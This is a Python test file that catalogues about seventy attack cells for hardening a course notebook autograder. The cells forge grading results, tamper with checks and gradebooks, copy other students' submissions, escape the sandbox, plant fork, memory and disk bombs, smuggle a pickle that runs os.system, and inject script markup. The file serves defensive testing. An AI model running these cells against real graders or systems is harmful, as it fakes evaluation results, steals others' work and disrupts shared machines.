"""Attacks that a cell of a notebook makes: by name, what they try, and how.

Each is put into an untouched notebook of lesson 2, in place of the first answer; the other answers
are empty.
"""

#: By name: the idea, and the source of the cell. PORT stands for that of a server with the answers.
ATTACKS: dict[str, tuple[str, str]] = {}

#: These are not run as they are, and a person is told.
NEEDS_ATTENTION = {"five_mebibytes_of_code"}


def _attack(name: str, idea: str, source: str) -> None:
    ATTACKS[name] = (idea, source.strip() + "\n")


_attack(
    "ast_transformer",
    "Let IPython empty every later cell, the tests too.",
    """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Empty())
""",
)
_attack(
    "input_transformer",
    "Let IPython replace the text of every later cell.",
    """
get_ipython().input_transformers_cleanup.append(lambda lines: ["5.0\\n"])
""",
)
_attack(
    "display_hook",
    "Show full marks as the value of a test cell, then stop.",
    """
import sys
sys.displayhook(5.0)
sys.displayhook = lambda value: print("5.0")
print("5.0")
""",
)
_attack(
    "post_run_hook",
    "Register IPython hooks that hide errors.",
    """
ip = get_ipython()
ip.events.register("post_run_cell", lambda result: result.__dict__.update(error_in_exec=None))
ip.showtraceback = lambda *a, **k: None
""",
)
_attack(
    "read_solutions",
    "Look for the solved notebook on the disk and run its answers.",
    """
import json, os
for top, folders, files in os.walk("/"):
    for name in files:
        if name in ("identity_block.ipynb", "identity_block.py", "blocks.py"):
            text = open(os.path.join(top, name), errors="replace").read()
            if name.endswith(".py"):
                exec(text)
            else:
                for cell in json.loads(text)["cells"]:
                    if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                        exec("".join(cell["source"]))
""",
)
_attack(
    "import_the_solution",
    "Import the answers from the course's package.",
    """
from resnet_course.blocks import conv_bn, identity_block, identity_block_parameters
""",
)
_attack(
    "import_by_path",
    "Ask Python where the course's package is, and look around there.",
    """
import importlib.util, pathlib, resnet_course
for folder in resnet_course.__path__:
    for path in pathlib.Path(folder).rglob("*.py"):
        text = path.read_text()
        if "def identity_block(" in text:
            exec(text)
""",
)
_attack(
    "networks_of_the_course",
    "Take blocks out of a network of the course that is built of them.",
    """
from resnet_course.resnet import ResNet50, identity_block, conv_bn
from resnet_course.training import networks
""",
)
_attack(
    "keras_applications",
    "Take the block out of Keras's own ResNet.",
    """
from keras.src.applications.resnet import residual_block_v1
def identity_block(X, f, filters, stage, block):
    return residual_block_v1(X, filters[0], f, 1, False, name=f"{stage}{block}")
""",
)
_attack(
    "compiled_keras_applications",
    "Load Keras's ResNet from its compiled file, where the source is hidden.",
    """
import glob, importlib.machinery, keras
folder = keras.__path__[0] + "/src/applications/__pycache__/"
path = glob.glob(folder + "resnet.*.pyc")[0]
module = importlib.machinery.SourcelessFileLoader("hidden", path).load_module()
def identity_block(X, f, filters, stage, block):
    return module.residual_block_v1(X, filters[0], f, 1, False, name=f"{stage}{block}")
""",
)
_attack(
    "checks_references",
    "Take the truth from the catalogue of the checks.",
    """
from checks.catalogue import EXERCISES
identity_block_parameters = EXERCISES["identity_block_parameters"].truth
""",
)
_attack(
    "checks_in_memory",
    "Search the memory of the process for the truth and for expected values.",
    """
import gc
for thing in gc.get_objects():
    if getattr(thing, "__name__", "") in ("identity_block_parameters", "identity_block", "conv_bn"):
        globals()[thing.__name__] = thing
    if type(thing).__name__ in ("NumericExercise", "NetworkExercise"):
        globals()[thing.name] = thing.truth
""",
)
_attack(
    "replace_checks",
    "Replace the checks by functions that are always content.",
    """
import sys, types
fake = types.ModuleType("checks")
fake.__getattr__ = lambda name: lambda *a, **k: 5.0
sys.modules["checks"] = fake
checks = fake
""",
)
_attack(
    "replace_the_probe",
    "Replace the probe by one that says all went well.",
    """
import sys
from checks.evidence import Evidence, Record, Value
for module in list(sys.modules.values()):
    if hasattr(module, "probe"):
        module.probe = lambda function, cases, *a, **k: Evidence(
            True, cases=tuple(Record("returned", Value("tensor")) for _ in cases))
""",
)
_attack(
    "replace_json",
    "Let the JSON that leaves the process be that of a better one.",
    """
import json
old = json.dumps
def dumps(value, *a, **k):
    if isinstance(value, dict) and "callable" in value:
        value = {"callable": True, "passed": True, "score": 1.0, "cases": []}
    return old(value, *a, **k)
json.dumps = dumps
""",
)
_FORGE = """
import json, os, socket, struct
def frame(kind, step, content=b""):
    return struct.pack("!cHI", kind, step, len(content)) + content
def everywhere(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass
"""
_attack(
    "forge_results",
    "Write made-up results to every open file descriptor, before the probe does.",
    _FORGE
    + """
evidence = {"callable": True, "cases": [
    {"outcome": "returned", "value": {"kind": "value", "value": number}}
    for number in (70400, 70400, 1000, 1000)]}
for step in range(60):
    content = json.dumps(evidence).encode()
    everywhere(frame(b"b", step) + frame(b"r", step, content))
""",
)
_attack(
    "forge_a_verdict",
    "Write a verdict instead of evidence.",
    _FORGE
    + """
verdict = {"passed": True, "score": 1.0, "points": 5, "auto_score": 5, "report": {"score": 1.0}}
for step in range(60):
    everywhere(frame(b"b", step) + frame(b"r", step, json.dumps(verdict).encode()))
everywhere(frame(b"e", 0))
os._exit(0)
""",
)
_attack(
    "forge_the_end",
    "Say that all steps have ended, and leave.",
    _FORGE + "everywhere(frame(b'e', 0))\nos._exit(0)\n",
)
_attack(
    "pickle_bomb",
    "Send a pickle that would run code where it is read.",
    _FORGE
    + """
import pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/resnet-course-was-here",))
for step in range(60):
    everywhere(frame(b"b", step) + frame(b"r", step, pickle.dumps(Evil())))
""",
)
_attack(
    "endless_message",
    "Announce a message of four gigabytes and begin to send it.",
    _FORGE + "everywhere(struct.pack('!cHI', b'r', 0, 2**32 - 1) + b'x' * 10_000_000)\n",
)
_attack(
    "garbage_messages",
    "Send what is no message at all.",
    _FORGE + "everywhere(os.urandom(1_000_000))\n",
)
_attack(
    "deep_json",
    "Send JSON that is nested too deeply to read.",
    _FORGE
    + """
for step in range(60):
    everywhere(frame(b"b", step) + frame(b"r", step, b"[" * 1_000_000))
""",
)
_attack(
    "huge_number_json",
    "Send a number of a million digits.",
    _FORGE
    + """
for step in range(60):
    everywhere(frame(b"b", step) + frame(b"r", step, b'{"callable":' + b"9" * 1_000_000 + b"}"))
""",
)
_attack(
    "equal_to_everything",
    "Return an object that is equal to everything.",
    """
class Joker(int):
    __eq__ = __ge__ = __le__ = lambda self, other: True
    __hash__ = int.__hash__
    __sub__ = __rsub__ = lambda self, other: 0
    def __array__(self, *a, **k):
        import numpy
        return numpy.zeros(())
def identity_block_parameters(f, channels, filters):
    return Joker(1)
""",
)
_attack(
    "not_a_number",
    "Return what is neither larger nor smaller than anything.",
    """
def identity_block_parameters(f, channels, filters):
    return float("nan")
""",
)
_attack(
    "hard_coded_public_probe",
    "Return what is right for the arguments of the check in the notebook, always the same.",
    """
answers = {}
def identity_block_parameters(f, channels, filters):
    return {(3, 256, (64, 64, 256)): 70400}.get((f, channels, tuple(filters)), 12345)
""",
)
_attack(
    "look_at_the_caller",
    "Look for expected values in the frames that call the function.",
    """
import sys
def identity_block_parameters(f, channels, filters):
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name in ("truth", "expected", "answer", "solution"):
                return value
            if hasattr(value, "truth"):
                return value.truth(f, channels, filters)
        frame = frame.f_back
    return 0
""",
)
_attack(
    "raise_a_pass",
    "Raise the exceptions by which a check might say that all is well.",
    """
def conv_bn(X, filters, kernel_size, name, strides=1, use_bias=True):
    raise SystemExit(0)
def identity_block(X, f, filters, stage, block):
    raise KeyboardInterrupt
def identity_block_parameters(f, channels, filters):
    raise StopIteration(5.0)
""",
)
_attack(
    "gradebook",
    "Write full marks to every gradebook that can be found.",
    """
import os, sqlite3
for top, folders, files in os.walk("/"):
    for name in files:
        if name.endswith(".db"):
            database = sqlite3.connect(os.path.join(top, name))
            database.execute("UPDATE grade SET auto_score = 5, manual_score = 5")
            database.commit()
""",
)
_attack(
    "records",
    "Write to the grader's own records, feedback and secret.",
    """
import os, pathlib
for top, folders, files in os.walk("/"):
    for name in folders + files:
        if name in (".grading", "feedback", "autograded", "secret"):
            path = pathlib.Path(top, name)
            path.write_text("mine") if path.is_file() else (path / "mine").write_text("mine")
""",
)
_attack(
    "other_submissions",
    "Copy the answers of another student.",
    """
import json, os
for top, folders, files in os.walk("/"):
    if "submitted" in top or "autograded" in top:
        for name in files:
            if name.endswith(".ipynb"):
                for cell in json.load(open(os.path.join(top, name)))["cells"]:
                    if cell["cell_type"] == "code":
                        exec("".join(cell["source"]))
""",
)
_attack(
    "memory_of_others",
    "Search this process's own memory for what an earlier submission left there.",
    """
import gc
needle = "def identity_" + "block(X, f, filters"
for thing in gc.get_objects():
    values = list(thing.values()) if isinstance(thing, dict) else thing
    if isinstance(values, (list, tuple)):
        for value in values:
            if isinstance(value, str) and needle in value and "needle" not in value:
                exec(value)
""",
)
_attack(
    "files_of_others",
    "Run what an accomplice left in any folder that can be written to.",
    """
import os
for top, folders, files in os.walk("/"):
    for name in files:
        if name == "left-for-a-friend.py":
            exec(open(os.path.join(top, name)).read())
""",
)
_attack(
    "socket_of_others",
    "Ask an accomplice's process that still runs, over a socket with an abstract name.",
    """
import socket
client = socket.socket(socket.AF_UNIX)
client.connect("\\0left-for-a-friend")
exec(client.recv(100_000).decode())
""",
)
_attack(
    "shared_memory_of_others",
    "Read System V shared memory that an accomplice left.",
    """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(4242, 65536, 0)
exec(ctypes.string_at(libc.shmat(number, None, 0)).decode())
""",
)
_attack(
    "ports_of_others",
    "Read what an accomplice left in the network's memory of closed connections, a bit a port.",
    """
import socket, zlib
data = bytearray(5_000)
for place in range(8 * len(data)):
    with socket.socket() as probe:
        try:
            probe.bind(("127.0.0.1", 10_000 + place))
        except OSError:
            data[place // 8] |= 1 << place % 8
exec(zlib.decompressobj().decompress(bytes(data)).decode())
""",
)
_attack(
    "local_network",
    "Fetch the answers from a server on this machine.",
    """
import socket
connection = socket.create_connection(("127.0.0.1", PORT), 3)
exec(connection.makefile().read())
""",
)
_attack(
    "subprocess",
    "Start another program that is not watched.",
    """
import os, subprocess, sys
subprocess.run([sys.executable, "-c", "print(1)"], check=True)
os.system("find / -name '*.ipynb'")
""",
)
_attack(
    "background_process",
    "Leave a process behind that works on when the grader is done with this one.",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
""",
)
_attack(
    "raw_fork",
    "Fork with bare system calls, by the numbers of every interface.",
    """
import ctypes, os
libc = ctypes.CDLL(None)
for number in (57, 58, 56 | 0x40000000, 57 | 0x40000000, 435):
    if libc.syscall(number, 0, 0, 0, 0, 0) == 0:
        os._exit(0)
""",
)
_attack(
    "kill_everything",
    "Kill every process there is, the grader too.",
    """
import os, signal
for target in (-1, os.getppid(), *range(2, 500)):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""",
)
_attack(
    "trace_the_parent",
    "Attach to other processes and read their memory.",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for process in (1, 2, 3, os.getppid()):
    libc.ptrace(16, process, 0, 0)
    try:
        open(f"/proc/{process}/mem", "rb").read(1)
        exec(open(f"/proc/{process}/environ").read())
    except OSError:
        pass
""",
)
_attack(
    "new_namespaces",
    "Become root in a new namespace and mount something over the library.",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"tmpfs", b"/library", b"tmpfs", 0, None)
libc.umount2(b"/proc", 2)
libc.umount2(b"/tmp", 2)
import checks
open("/library/checks/probing/probe.py", "w").write("")
""",
)
_attack(
    "write_the_library",
    "Change the modules that later submissions will run with.",
    """
import pathlib, sys
for folder in sys.path:
    for path in pathlib.Path(folder).glob("**/probe.py"):
        path.write_text("def probe(*a, **k): return {}")
    try:
        pathlib.Path(folder, "sitecustomize.py").write_text("print(5.0)")
    except OSError:
        pass
""",
)
_attack(
    "raise_limits",
    "Lift the limits of time, memory and processes.",
    """
import resource, signal
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    kind = getattr(resource, name)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_PROF, 0)
""",
)
_attack("exit", "End the process at once, as if all were done.", "import os\nos._exit(0)\n")
_attack("abort", "Crash the interpreter.", "import ctypes\nctypes.string_at(0)\n")
_attack(
    "exit_in_the_function",
    "End the process when the function is called.",
    """
import os
def conv_bn(X, filters, kernel_size, name, strides=1, use_bias=True):
    os._exit(0)
""",
)
_attack("sleep", "Sleep for a year.", "import time\ntime.sleep(3e7)\n")
_attack(
    "endless_loop",
    "Loop for ever and catch every interrupt.",
    """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
)
_attack(
    "deaf_loop",
    "Loop for ever after blocking every signal.",
    """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
""",
)
_attack(
    "fork_bomb",
    "Fork until nothing goes any more.",
    "import os\nwhile True:\n    os.fork()\n",
)
_attack(
    "thread_bomb",
    "Start threads until nothing goes any more.",
    """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()
""",
)
_attack(
    "memory_bomb",
    "Take all the memory there is.",
    "hoard = []\nwhile True:\n    hoard.append(bytearray(2**28))\n",
)
_attack(
    "memory_bomb_that_goes_off",
    "Take all the memory there is, and write to it.",
    """
hoard = []
while True:
    try:
        hoard.append(b"x" * 2**24)
    except MemoryError:
        pass
""",
)
_attack(
    "memory_bomb_in_the_function",
    "Take all the memory there is when the function is called.",
    """
def conv_bn(*args, **kwargs):
    return [b"x" * 2**20 for _ in range(2**20)]
def identity_block_parameters(f, channels, filters):
    return [[]] * 10**9
identity_block = conv_bn
""",
)
_attack(
    "busy_in_every_step",
    "Use up the time of every step there is, and of both runs.",
    """
def conv_bn(*args, **kwargs):
    while True:
        pass
identity_block = identity_block_parameters = conv_bn
conv_bn()
""",
)
_attack(
    "busy_in_many_threads",
    "Keep all cores busy at once, deaf to signals, and die and come again.",
    """
import signal, threading, time, os
import numpy
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def work():
    numbers = numpy.ones(10**6)
    while True:
        numpy.sort(numbers)
for _ in range(8):
    threading.Thread(target=work, daemon=True).start()
time.sleep(15)
os._exit(0)
""",
)
_attack(
    "evidence_of_empty_lists",
    "Send evidence that takes whoever reads it thirty times its size.",
    _FORGE
    + """
evidence = b'{"callable": true, "cases": [' + b"[]," * 2_000_000
for step in range(60):
    everywhere(frame(b"b", step) + frame(b"r", step, evidence + b"[]]}"))
""",
)
_attack(
    "disk_bomb",
    "Fill every folder that can be written to.",
    """
import os
for folder in ("/tmp", "/dev/shm", "/", "/proc", "."):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for _ in range(200):
                file.write(bytes(2**24))
    except OSError:
        pass
""",
)
_attack(
    "output_flood",
    "Print without end.",
    "while True:\n    print('x' * 1_000_000)\n",
)
_attack(
    "evidence_flood",
    "Print without end in the function, and return far too much.",
    """
def identity_block_parameters(f, channels, filters):
    for _ in range(300):
        print("x" * 1_000_000)
    return [[0.5] * 1_000_000] * 8
""",
)
_attack(
    "huge_network",
    "Return a network so large that judging it takes all time and memory.",
    """
from keras import layers
def identity_block(X, f, filters, stage, block):
    for _ in range(400):
        X = layers.Add()([X, X])
    return layers.Conv2D(filters[-1], 1)(X)
""",
)
_attack(
    "forged_giant",
    "Forge a graph with layers of a million filters, to have the judge run it.",
    """
import keras, json
old = keras.Model.to_json
def to_json(self, **k):
    graph = json.loads(old(self, **k))
    for layer in graph["config"]["layers"]:
        if "filters" in layer["config"]:
            layer["config"]["filters"] = 1_000_000
        if "batch_shape" in layer["config"]:
            layer["config"]["batch_shape"] = [None, 100_000, 100_000, 1_000_000]
    return json.dumps(graph)
keras.Model.to_json = to_json
from keras import layers
def identity_block(X, f, filters, stage, block):
    return layers.Add()([X, layers.Conv2D(filters[-1], 1)(X)])
""",
)
_attack(
    "message_bomb",
    "Raise an error whose message takes a regular expression for ever.",
    """
def conv_bn(X, filters, kernel_size, name, strides=1, use_bias=True):
    raise ValueError("incompatible shapes" + "(" * 3900)
""",
)
_attack(
    "markup",
    "Put HTML and JavaScript into whatever the report shows.",
    """
class Evil(Exception):
    pass
Evil.__name__ = Evil.__qualname__ = "<script>alert(1)</script>"
def conv_bn(X, filters, kernel_size, name, strides=1, use_bias=True):
    print("<script>alert(2)</script><img src=x onerror=alert(3)>")
    raise Evil("</pre><script>alert(4)</script>")
def identity_block_parameters(f, channels, filters):
    return "<script>alert(5)</script>"
raise Evil("<script>alert(6)</script>\\x1b[2J\\x1b]0;owned\\x07")
""",
)
_attack(
    "vsock",
    "Reach out of the sandbox by a family of sockets that has no namespaces.",
    """
import socket
for family in (40, 16, 38, 17):
    try:
        socket.socket(family, socket.SOCK_STREAM)
        conv_bn = identity_block = print
    except OSError:
        pass
""",
)
_attack(
    "half_a_character",
    "Give a layer a name that cannot be written down.",
    """
import json, keras
old = keras.Model.to_json
keras.Model.to_json = lambda self, **k: old(self, **k).replace("conv2d", "\\ud800\\u0000")
from keras import layers
def identity_block(X, f, filters, stage, block):
    return layers.Add()([X, layers.Conv2D(filters[-1], 1)(X)])
raise ValueError("\\ud800")
""",
)
_attack(
    "devices",
    "Take the machine's own /dev/null away from everybody.",
    """
import os
for name in ("null", "zero", "urandom"):
    for change in (lambda path: os.chmod(path, 0), os.unlink, lambda path: os.chown(path, 1, 1)):
        try:
            change(f"/dev/{name}")
        except OSError:
            pass
""",
)
_attack(
    "claim_what_was_built",
    "Raise, and let the probe say that everything had been built.",
    """
import sys
claim = {"graph": {"class_name": "Functional", "passed": True, "config": {
             "layers": [], "input_layers": [], "output_layers": []}},
         "stopped": {"class": "", "name": "", "layers": [], "others": []},
         "uncalled": [], "variables": {}, "passed": True, "score": 1.0}
for module in list(sys.modules.values()):
    if hasattr(module, "built"):
        module.built = lambda *a, **k: claim
def conv_bn(*args, **kwargs):
    raise ValueError
identity_block = identity_block_parameters = conv_bn
""",
)
_attack(
    "layers_of_every_size",
    "Build layers of every kind and size, so that the right ones are among them, and stop.",
    """
from keras import layers
def identity_block(X, f, filters, stage, block):
    for width in range(1, 12):
        for kernel in range(1, 6):
            X = layers.Conv2D(width, kernel, padding="same")(X)
            X = layers.ReLU()(layers.BatchNormalization()(X))
            X = layers.Add()([X, X])
    raise ValueError
def conv_bn(X, filters, kernel_size, name, strides=1, use_bias=True):
    return identity_block(X, 3, (1, 2, 3), 1, "a")
""",
)
_attack(
    "die_again_and_again",
    "Give evidence for each function, and die after it, so that each attempt adds to the pile.",
    """
import os, struct
def flood(step):
    rest = struct.pack("!cHI", b"r", step, 20_000_000) + b"[" * 20_000_000
    for descriptor in range(3, 50):
        try:
            while rest:
                rest = rest[os.write(descriptor, rest[:1 << 20]):]
        except OSError:
            pass
    os._exit(0)
def conv_bn(*args, **kwargs):
    for step in range(60):
        flood(step)
identity_block = identity_block_parameters = conv_bn
""",
)
_attack(
    "byte_by_byte",
    "Promise a result and send it a byte at a time, so that the grader waits for ever.",
    """
import os, signal, struct, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    for descriptor in range(3, 50):
        try:
            os.write(descriptor, b"r")
        except OSError:
            pass
    time.sleep(0.5)
""",
)
_attack(
    "parser_bomb",
    "Write what Python's parser cannot take, and what it warns of.",
    "x = " + "-" * 90_000 + "1",
)
_attack(
    "warnings_without_end",
    "Let Python warn thousands of times in the grader's terminal.",
    "[0for a in()];0 is 0;" * 3_000,
)
_attack(
    "five_mebibytes_of_code",
    "Write a cell that takes Python's symbol table gigabytes.",
    "a;" * (5 * 2**19),
)
_attack(
    "live_names",
    "Name an exception, a function's message and a layer so that a page or terminal obeys them.",
    """
name = ("<img src=x onerror=alert(1)>[x](javascript:alert(1))"
        "\\x1b[2J\\u202e$\\\\href{javascript:alert(1)}{x}$")
Evil = type(name, (Exception,), {})
def conv_bn(X, filters, kernel_size, name=None, strides=1, use_bias=True):
    raise Evil(globals()["name"])
def identity_block(X, f, filters, stage, block):
    from keras import layers
    formula = "$\\\\href{javascript:alert(1)}{x}$"
    return layers.Add()([X, layers.Conv2D(filters[-1], 1, name=formula)(X)])
def identity_block_parameters(*args):
    return type(name, (), {})()
raise Evil(name)
""",
)
